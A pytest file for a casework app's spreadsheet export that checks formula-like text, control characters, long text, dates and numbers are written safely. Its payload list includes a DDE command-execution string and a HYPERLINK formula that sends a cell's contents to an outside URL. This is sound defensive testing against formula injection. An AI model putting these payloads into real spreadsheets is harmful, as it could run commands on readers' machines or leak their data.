"""What is written as text stays text in whoever's spreadsheet opens it."""

import re
from datetime import date
from io import BytesIO
from zipfile import ZipFile

import openpyxl
import pytest
from openpyxl.xml import DEFUSEDXML

from casework.models import Referral
from casework.reports import workbook
from casework.reports.sheets import Column, Sheet
from casework.tests.factories import make_authorised_referral, make_meeting, put
from casework.tests.workbook_factories import ask_for, made, make_period, opened

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?x="&A1,"Look")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "'=1+1",
    '"=1+1"',
    "=",
    "#REF!",
    "#N/A",
    "{=1+1}",
    "_x003D_1+1",
    "0123",
    "1E5",
    "01/02/2026",
    "TRUE",
    "Moira O’Neill – 日本 👩‍👩‍👧",
]


A_FORMULA = re.compile(rb"<(?:\w+:)?f[ >/]")


class Rows(list):
    """Stands for a queryset: a list that can be iterated a few at a time."""

    def iterator(self, *, chunk_size):
        return iter(self)


def written(rows) -> bytes:
    columns = (Column("=Heading", 20), Column("Number", 12), Column("Day", 12))
    sheet = Sheet("Sheet", columns, Rows(rows), list)
    return workbook.written(make_period(), [sheet], tell=lambda: None)


def formulas_in(content: bytes) -> list[str]:
    """Return every formula that the file itself has, in whatever way a reader takes it."""
    with ZipFile(BytesIO(content)) as parts:
        sheets = [name for name in parts.namelist() if name.startswith("xl/worksheets/")]
        return [
            tag for name in sheets for tag in re.findall(rb"<(?:\w+:)?f[ >/]", parts.read(name))
        ]


def test_no_text_becomes_a_formula_and_each_is_read_back_as_it_was():
    content = written([text, None, None] for text in PAYLOADS)

    cells = [row[0] for row in opened(content)["Sheet"].iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.value.replace("\r", "\n") for cell in cells] == [
        text.replace("\r", "\n") for text in PAYLOADS
    ]
    assert all(cell.quotePrefix for cell in cells)
    assert formulas_in(content) == []


def test_a_heading_is_text_too():
    assert opened(written([]))["Sheet"]["A1"].data_type == "s"


def test_what_a_cell_cannot_hold_is_left_out_and_the_rest_is_kept():
    nasty = "a\x00b\x08c\x0bd\x1fe\ud800f\ufffeg\uffffh\x7fi"

    cells = opened(written([[nasty, 1, None]]))["Sheet"]

    assert cells["A2"].value == "abcdefghi"


def test_text_that_is_too_long_is_cut_and_says_so():
    longest, longer = "x" * 32_767, "y" * 40_000

    page = opened(written([[longest, 1, None], [longer, 1, None]]))["Sheet"]

    assert page["A2"].value == longest
    assert len(page["A3"].value) == 32_767
    assert page["A3"].value.endswith("y … (cut)")


def test_a_number_is_a_number_a_day_is_a_day_and_nothing_is_an_empty_cell():
    page = opened(written([["a", 7, date(2026, 12, 10)], ["b", 0, None]]))["Sheet"]

    assert (page["B2"].value, page["B2"].data_type) == (7, "n")
    assert page["C2"].value.date() == date(2026, 12, 10)
    assert page["C2"].number_format == "dd/mm/yyyy"
    assert (page["B3"].value, page["C3"].value) == (0, None)


def test_the_heading_stays_in_view_and_columns_are_wide_enough():
    page = opened(written([]))["Sheet"]

    assert page.freeze_panes == "A2"
    assert page.column_dimensions["A"].width == 20
    assert page["A1"].font.bold


@pytest.mark.parametrize("agency", PAYLOADS[:7])
def test_an_agency_named_like_a_formula_is_text_in_the_real_spreadsheet(agency):
    make_meeting()
    put(make_authorised_referral(), agency_name=agency)

    content = made(ask_for()).content

    book = opened(content)
    kinds = {cell.data_type for page in book for row in page.iter_rows() for cell in row}
    assert "f" not in kinds
    assert formulas_in(bytes(content)) == []
    assert book["Referrals"]["B2"].value == agency.replace("\r", "\n")


def test_a_referral_with_a_control_character_does_not_stop_the_whole_spreadsheet():
    make_meeting()
    referral = make_authorised_referral()
    Referral.objects.filter(pk=referral.pk).update(agency_name="Beech\x0bwood")

    made(book := ask_for())

    assert opened(book.content)["Referrals"]["B2"].value == "Beechwood"


def test_whatever_is_opened_here_is_opened_safely():
    assert DEFUSEDXML
    assert openpyxl.__version__.startswith("3.1")
